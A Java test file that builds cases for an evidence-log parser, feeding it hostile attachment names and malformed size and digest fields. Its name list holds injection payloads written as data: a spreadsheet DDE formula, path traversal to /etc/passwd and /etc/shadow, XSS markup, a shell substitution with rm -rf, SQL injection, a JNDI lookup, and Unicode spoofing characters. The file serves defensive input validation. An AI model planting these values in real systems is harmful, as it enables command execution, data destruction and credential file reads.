package dev.soc2.evidence.hostile;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * Names that mean something to a shell, a spreadsheet, a browser or a file system. Evidence is data: such a name is
 * kept as it came, wherever it does no harm, and never opened, run or shown raw.
 */
final class NameCases {

    private NameCases() {}

    static List<Case> all() {
        List<Case> cases = new ArrayList<>();
        names().forEach((name, json) -> {
            cases.add(Case.of(
                    "subject: " + name,
                    Doors.jsonl(),
                    "a.jsonl",
                    JsonCases.line("1", "1") + JsonCases.line("2", "1").replace("\"s\"", "\"" + json + "\""),
                    "1 2",
                    ""));
            cases.add(Case.of(
                    "attachment: " + name,
                    Doors.jsonl(),
                    "a.jsonl",
                    JsonCases.line("1", "1") + attached(json, "\"size\":1", "0".repeat(64)),
                    holdsControl(json) ? "1" : "1 2",
                    holdsControl(json) ? "D026" : ""));
        });
        attachment(cases, "a name of 256 letters", attached("n".repeat(256), "\"size\":1", "0".repeat(64)), "D026");
        attachment(cases, "a blank name", attached(" ", "\"size\":1", "0".repeat(64)), "D026");
        attachment(cases, "a size below zero", attached("n", "\"size\":-1", "0".repeat(64)), "D026");
        attachment(cases, "a size beyond 64 bits", attached("n", "\"size\":1e30", "0".repeat(64)), "D023");
        attachment(cases, "a broken size", attached("n", "\"size\":1.5", "0".repeat(64)), "D023");
        attachment(cases, "no size", attached("n", "\"mediaType2\":\"x\"", "0".repeat(64)), "D020");
        attachment(cases, "a digest of 63 digits", attached("n", "\"size\":1", "0".repeat(63)), "D026");
        attachment(cases, "a digest in capitals", attached("n", "\"size\":1", "A".repeat(64)), "D026");
        attachment(cases, "a digest that is a path", attached("n", "\"size\":1", "../" + "0".repeat(61)), "D026");
        return cases;
    }

    private static boolean holdsControl(String json) {
        return json.matches(".*\\\\(u00[01]|t).*");
    }

    /** Names as JSON writes them. */
    static Map<String, String> names() {
        Map<String, String> names = new LinkedHashMap<>();
        names.put("a formula", "=cmd|' /C calc'!A0");
        names.put("a formula behind a tab", "\\t=1+1");
        names.put("a path that climbs", "../../../../etc/passwd");
        names.put("a path of Windows", "..\\\\..\\\\windows\\\\system32");
        names.put("a device of Windows", "CON");
        names.put("an absolute path", "/etc/shadow");
        names.put("a file address", "file:///etc/passwd");
        names.put("markup", "<img src=x onerror=alert(1)>");
        names.put("a script's address", "javascript:alert(1)");
        names.put("an end of a comment", "--><script>");
        names.put("a command", "$(rm -rf /tmp/x); `id` && |");
        names.put("SQL", "'; DROP TABLE evidence;--");
        names.put("a lookup", "${jndi:ldap://x.example/a}");
        names.put("a template", "{{7*7}}#{7*7}<%= 7*7 %>");
        names.put("a format", "%s%n%x%9999999d");
        names.put("right to left", "abc\\u202Egnp.exe");
        names.put("zero width", "ad\\u200Bmin");
        names.put("a byte order mark", "\\uFEFFadmin");
        names.put("NUL", "a\\u0000.txt");
        names.put("an escape sequence", "\\u001B[2Jx");
        names.put("a line end", "a\\u000aSet-Cookie: x");
        names.put("letters that look like others", "\\u0430dmin");
        names.put("marks in abundance", "Z\\u0351\\u036B\\u0343\\u036A\\u0302");
        names.put("a turkish i", "\\u0130ST\\u0130NYE");
        names.put("a flag", "\\uD83C\\uDDE9\\uD83C\\uDDEA");
        return names;
    }

    private static void attachment(List<Case> cases, String name, String line, String codes) {
        cases.add(Case.of(
                "attachment with " + name, Doors.jsonl(), "a.jsonl", JsonCases.line("1", "1") + line, "1", codes));
    }

    private static String attached(String name, String size, String sha256) {
        return "{\"id\":\"2\",\"type\":\"a.b\",\"subject\":\"s\",\"occurredAt\":\"2025-01-01T00:00:00Z\",\"source\":\"x\","
                + "\"attachments\":[{\"name\":\"" + name + "\",\"mediaType\":\"text/plain\"," + size + ",\"sha256\":\""
                + sha256 + "\"}]}\n";
    }
}
